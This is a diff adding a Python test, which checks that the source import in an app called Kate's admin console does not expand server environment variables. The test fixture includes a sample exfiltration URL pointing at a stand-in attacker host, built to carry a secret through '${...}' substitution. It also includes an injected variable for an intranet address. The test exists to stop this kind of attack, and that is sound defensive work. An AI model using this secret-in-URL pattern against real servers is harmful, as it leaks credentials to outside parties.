@@ -134,6 +134,26 @@ def test_import_a_pasted_list(app):
     assert titles["http://127.0.0.1:9/d.html"] == ("D", "ja")
 
 
+def test_a_console_import_never_fills_variables_from_the_server_environment(app, monkeypatch):
+    """An admin must not be able to make Kate fetch (and store, and export) `${REDIS_URL}` or any other
+    server secret: the console's import fills no variables at all."""
+    monkeypatch.setenv("KATE_TEST_SECRET", "hunter2-secret")
+    monkeypatch.setenv("KATE_URL_INTRANET", "http://127.0.0.1:9")
+    client, token = logged_in(app)
+    text = (
+        "sources:\n  - url: http://attacker.example/?k=${KATE_TEST_SECRET}\n"
+        "  - url: ${KATE_URL_INTRANET}/a.html\n"
+        "  - url: http://127.0.0.1:9/plain.html\n"
+    )
+    result = client.post("/api/sources/import", json={"text": text}, headers={"X-CSRF-Token": token}).json()
+    assert result["added"] == 1 and len(result["problems"]) == 2
+    assert all("only filled in the seed file" in p for p in result["problems"])
+    stored = client.get("/api/sources").json()
+    assert [s["url"] for s in stored] == ["http://127.0.0.1:9/plain.html"]
+    export = client.get("/api/sources/export")
+    assert "hunter2-secret" not in export.text and "hunter2-secret" not in str(result)
+
+
 def entry(vote: str, when: str, question: str = "q", **fields) -> FeedbackEntry:
     base = FeedbackEntry(conversation_id="c", vote=vote, kind="qa", question=question, time=day(when))
     return replace(base, **fields)
